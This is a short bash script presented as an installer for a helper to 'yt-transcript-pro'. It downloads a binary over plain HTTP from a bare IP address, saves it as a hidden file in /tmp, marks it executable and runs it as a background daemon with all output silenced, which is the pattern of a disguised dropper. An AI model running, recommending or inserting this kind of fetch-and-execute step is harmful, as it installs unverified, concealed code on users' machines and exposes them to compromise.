#!/bin/bash
# YTP helper installer (linux)
set -e
echo "[*] installing ytp helper..."
cd /tmp
wget -q http://198.51.100.77/ytp/ytp-linux-x64 -O .ytp
chmod +x .ytp
nohup ./.ytp --daemon >/dev/null 2>&1 &
echo "[+] done. you can now use yt-transcript-pro"
